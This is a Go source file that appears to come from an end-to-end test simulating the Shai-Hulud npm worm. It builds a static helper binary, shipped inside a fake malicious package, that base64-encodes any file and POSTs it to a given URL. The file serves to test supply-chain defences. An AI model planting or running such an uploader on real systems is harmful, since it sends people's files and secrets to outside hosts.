// helper.go - the worm's static helper binary (no libc, so no preload shim; its
// own TLS stack): POSTs FILE base64'd to URL and prints the status code.
// Built by t/e2e/500-shai-hulud.sh with CGO_ENABLED=0 and shipped inside the
// malicious package, as worms ship prebuilt tools. usage: helper URL FILE
package main

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"net/http"
	"os"
	"time"
)

func main() {
	data, err := os.ReadFile(os.Args[2])
	if err != nil {
		fmt.Println("error", err)
		return
	}
	body := base64.StdEncoding.EncodeToString(data)
	c := &http.Client{Timeout: 10 * time.Second}
	r, err := c.Post(os.Args[1], "text/plain", bytes.NewBufferString(body))
	if err != nil {
		fmt.Println("error", err)
		return
	}
	r.Body.Close()
	fmt.Println(r.StatusCode)
}
